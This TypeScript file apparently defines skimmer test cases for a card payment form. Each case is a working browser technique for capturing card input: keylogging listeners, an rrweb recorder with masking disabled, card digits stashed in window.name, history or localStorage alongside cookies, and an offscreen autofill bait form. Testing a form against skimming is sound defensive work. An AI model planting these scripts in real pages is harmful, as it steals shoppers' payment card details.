// Skimmers that listen and look, and leave the browser's functions as they are.
import type { Skimmer } from './skimmer.ts';

/** As its script leaves it in the page. */
interface Recorder {
  readonly rrweb: { record(options: Readonly<Record<string, unknown>>): void };
}

export const LISTENING: readonly Skimmer[] = [
  {
    what: 'keys, caught on their way down',
    script: ({ steal }) => {
      let typed = '';
      addEventListener(
        'keydown',
        ({ key }) => {
          if (key.length === 1) typed += key;
          steal(typed);
        },
        true,
      );
    },
  },
  {
    what: 'what is about to be put in (beforeinput)',
    script: ({ steal }) => {
      let typed = '';
      addEventListener(
        'beforeinput',
        ({ data }) => {
          typed += data ?? '';
          steal(typed);
        },
        true,
      );
    },
  },
  {
    what: 'input, and the field that it happened in',
    script: ({ steal, valueOf }) => {
      addEventListener('input', (event) => steal(valueOf(event.composedPath()[0])), true);
    },
  },
  {
    what: 'paste',
    script: ({ steal }) => {
      addEventListener('paste', ({ clipboardData }) => steal(clipboardData?.getData('text')), true);
    },
  },
  {
    what: 'submit, listened for in every root',
    script: ({ steal, values, roots }) => {
      const read = (): void => steal(values());
      setInterval(() => {
        for (const root of roots()) root.addEventListener('submit', read, true);
      }, 50);
    },
    blind: 'The form pays from the click on its button, before anything is submitted.',
  },
  {
    what: 'the click on Pay, and a FormData of every form',
    script: ({ steal, roots }) => {
      const forms = (): HTMLFormElement[] => roots().flatMap((root) => [...root.querySelectorAll('form')]);
      addEventListener('click', () => steal(JSON.stringify(forms().map((form) => [...new FormData(form)]))), true);
    },
  },
  {
    what: 'every input, again and again',
    script: ({ steal, values }) => {
      setInterval(() => steal(values()), 50);
    },
  },
  {
    what: 'a MutationObserver in every root',
    script: ({ steal, values, roots }) => {
      const observer = new MutationObserver(() => steal(values()));
      const all = { subtree: true, childList: true, attributes: true, characterData: true };
      setInterval(() => {
        for (const root of roots()) observer.observe(root, all);
      }, 50);
    },
  },
  {
    what: 'a session recorder (rrweb) that is told to leave nothing out',
    script: ({ steal }) => {
      const { rrweb } = window as unknown as Recorder;
      rrweb.record({
        emit: (event: unknown) => steal(JSON.stringify(event)),
        maskAllInputs: false,
        blockClass: 'not-one',
        ignoreClass: 'not-one',
        maskTextClass: 'not-one',
      });
    },
  },
  {
    what: 'window.name, as a bag that is emptied on the next page',
    script: ({ steal, valueOf }) => {
      steal(window.name);
      const pack = (text: string): void => {
        if (/\d{4}/.test(text)) window.name = text;
      };
      addEventListener('input', (event) => pack(valueOf(event.composedPath()[0])), true);
    },
  },
  {
    what: 'the history’s state, as such a bag',
    script: ({ steal, valueOf }) => {
      steal(JSON.stringify(history.state));
      const pack = (text: string): void => {
        if (/\d{4}/.test(text)) history.replaceState({ bag: text }, '');
      };
      addEventListener('input', (event) => pack(valueOf(event.composedPath()[0])), true);
    },
  },
  {
    what: 'storage, as such a bag, and whatever else lies in it',
    script: ({ steal, valueOf }) => {
      steal(JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]));
      const pack = (text: string): void => {
        if (/\d{4}/.test(text)) localStorage.setItem('bag', text);
      };
      addEventListener('input', (event) => pack(valueOf(event.composedPath()[0])), true);
    },
  },
  {
    what: 'messages between windows',
    script: ({ steal }) => {
      addEventListener('message', ({ data }) => steal(JSON.stringify(data)), true);
    },
    blind: 'No message that the form sends or gets carries a card.',
  },
  {
    what: 'bait for what the browser fills in',
    script: ({ steal, valueOf }) => {
      addEventListener('DOMContentLoaded', () => {
        const bait = document.createElement('form');
        bait.style.cssText = 'position: absolute; inset-inline-start: -999px';
        const parts = ['cc-number', 'cc-exp', 'cc-csc'] as const;
        bait.append(...parts.map((autocomplete) => Object.assign(document.createElement('input'), { autocomplete })));
        document.body.append(bait);
        setInterval(() => steal([...bait.querySelectorAll('input')].map(valueOf).join('')), 50);
      });
    },
    blind: 'A browser fills in cards that its owner has kept in it, and one that is driven has none.',
  },
  {
    what: 'the window in which shoppers pay, held on to',
    script: ({ steal }) => {
      const look = (pay: Window): void => {
        try {
          for (const input of pay.document.querySelector('eximpe-card-form')!.shadowRoot!.querySelectorAll('input'))
            steal(input.value);
        } catch {
          // Of another origin, or not there yet.
        }
        pay.postMessage('What is in your fields?', '*');
      };
      addEventListener(
        'submit',
        ({ target }) => {
          if (!location.search.includes('window')) return;
          const pay = open('', 'pay')!;
          (target as HTMLFormElement).target = 'pay';
          setInterval(() => look(pay), 50);
        },
        true,
      );
    },
    blind: 'The form is not in another window.',
  },
];
